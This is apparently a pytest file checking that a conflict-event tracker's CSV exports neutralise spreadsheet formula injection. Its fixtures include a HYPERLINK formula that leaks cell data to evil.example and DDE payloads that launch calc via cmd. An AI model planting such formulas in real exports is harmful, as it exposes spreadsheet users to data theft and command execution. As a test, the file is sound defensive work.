"""CSV exports are spreadsheet-safe: text from articles cannot become a formula.

Names, sources and evidence are read from articles anyone wrote; a cell that
starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a
formula by Excel or LibreOffice (OWASP "CSV injection"). Such a cell gets a
leading ``'``; numbers (a negative longitude, fatalities) stay numbers.
"""
from __future__ import annotations

import csv
import io

import pytest

from vigile import export

HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Cliquez ici")'


def event(**changes) -> dict:
    base = {"id": 7, "type": "shelling", "date": "2017-03-14", "date_min": "2017-03-14", "country": "ML",
            "location": {"name": HYPERLINK, "lat": 12.65, "lon": -3.5, "precision": "city"},
            "actors": ["+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0"], "sources": ["-2+3+cmd|' /C calc'!A0"],
            "fatalities": 12, "n_articles": 1, "n_sources": 1, "disputed": False,
            "figures": {"killed": {"low": 12, "best": 12, "high": 12}},
            "evidence": HYPERLINK + " Lundi, au moins douze civils ont été tués à Gao.",
            "updated_at": "2017-03-14T10:00:00"}
    return base | changes


def read(acled: bool, *events: dict) -> list[dict]:
    out = io.StringIO()
    export.write_csv(events, out, acled=acled)
    return list(csv.DictReader(io.StringIO(out.getvalue())))


def test_flat_csv_cells_from_articles_cannot_be_formulas():
    [row] = read(False, event())
    assert row["location"] == "'" + HYPERLINK
    assert row["evidence"].startswith("'=HYPERLINK(")
    assert row["actors"].startswith("'+cmd|")
    assert row["sources"].startswith("'-2+3")
    assert (row["longitude"], row["latitude"], row["fatalities"], row["killed_best"]) == ("-3.5", "12.65", "12", "12")
    assert row["date"] == "2017-03-14" and row["type"] == "shelling"


def test_acled_csv_cells_from_articles_cannot_be_formulas():
    [row] = read(True, event())
    assert row["location"] == "'" + HYPERLINK
    assert row["notes"].startswith("'=HYPERLINK(")
    assert row["actor1"].startswith("'+cmd|") and row["actor2"].startswith("'@SUM(")
    assert row["source"].startswith("'-2+3")
    assert (row["longitude"], row["latitude"], row["fatalities"]) == ("-3.5", "12.65", "12")
    assert row["event_date"] == "2017-03-14"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_every_formula_start_is_neutralised(start):
    [row] = read(False, event(evidence=start + "1+1 Lundi, à Gao.", actors=[start + "Armée"]))
    assert row["evidence"] == "'" + start + "1+1 Lundi, à Gao."
    assert row["actors"] == "'" + start + "Armée"


def test_ordinary_cells_are_unchanged():
    plain = event(location={"name": "Gao", "lat": -12.5, "lon": -3.5, "precision": "city"},
                  actors=["Armée malienne"], sources=["AFP"], evidence="Lundi, douze civils ont été tués à Gao.")
    [row] = read(False, plain)
    assert (row["location"], row["actors"], row["sources"]) == ("Gao", "Armée malienne", "AFP")
    assert row["evidence"] == "Lundi, douze civils ont été tués à Gao."
    assert (row["latitude"], row["longitude"]) == ("-12.5", "-3.5")
    assert export.safe_cell(-3.5) == -3.5 and export.safe_cell(-1) == -1 and export.safe_cell(None) is None
